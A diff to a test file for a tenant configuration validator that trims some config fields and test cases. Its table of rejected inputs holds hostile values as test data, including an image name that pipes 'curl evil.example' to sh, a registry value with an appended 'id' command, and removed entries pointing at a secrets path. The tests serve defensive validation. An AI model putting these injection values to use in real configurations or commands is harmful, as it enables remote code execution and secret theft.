@@ -148,18 +148,13 @@ describe("tenant config (item 7)", () => {
         ...BASE,
         sites: [{ customDomains: ["shop.acme.example", "collect-verything.com.acme.example"] }],
         images: { ...BASE.images, redis: "registry.example.com/mirror/redis:7.4-alpine" },
-        routing: {
-          mode: "gateway-api",
-          gateway: { name: "edge", namespace: "gateway-system", sectionName: "https" },
-        },
+        routing: { mode: "gateway-api" },
         dataServices: {
-          mysqlReadReplicaHost: "10.0.4.2",
           federationUpstreams: [
             { name: "us", uri: "amqps://fed:pw@us.example.com" },
             { name: "asia", uri: "amqps://fed:pw@asia.example.com" },
           ],
         },
-        platform: { prometheusUrl: "https://prometheus.monitoring.svc:9090" },
       }),
     ).toEqual([]);
   });
@@ -178,12 +173,12 @@ describe("tenant config (item 7)", () => {
     ]);
   });
 
-  it("checks custom domains against the stack's own platform domain", () => {
+  it("checks custom domains against the platform's domain, which a request cannot move (a platform fact)", () => {
     const sites = [{ customDomains: ["acme.shops.example.net"] }];
     expect(problemsOf({ ...BASE, sites })).toEqual([]);
     expect(
       problemsOf({ ...BASE, sites, platform: { domain: "shops.example.net" } }).map((p) => p.field),
-    ).toEqual(["sites[0].customDomains[0]"]);
+    ).toEqual(["platform.domain"]);
   });
 
   it("refuses two federation upstreams of the same name, naming the second", () => {
@@ -200,26 +195,9 @@ describe("tenant config (item 7)", () => {
   });
 
   it.each([
-    [
-      "routing.gateway.name",
-      {
-        routing: { mode: "gateway-api", gateway: { name: "gw\nkind: Secret", namespace: "gateway-system" } },
-      },
-    ],
-    [
-      "routing.gateway.sectionName",
-      {
-        routing: {
-          mode: "gateway-api",
-          gateway: { name: "gw", namespace: "gateway-system", sectionName: "https\n" },
-        },
-      },
-    ],
     ["routing.ingressClassName", { routing: { mode: "ingress-nginx", ingressClassName: "nginx --dry-run" } }],
     ["images.redis", { images: { ...BASE.images, redis: "redis:7; curl evil.example | sh" } }],
     ["images.registry", { images: { ...BASE.images, registry: "registry.example.com/cv; id" } }],
-    ["dataServices.mysqlReadReplicaHost", { dataServices: { mysqlReadReplicaHost: "replica:3306" } }],
-    ["platform.prometheusUrl", { platform: { prometheusUrl: "file:///var/run/secrets" } }],
     [
       "adminCredentials.rabbitmq.managementUrl",
       {
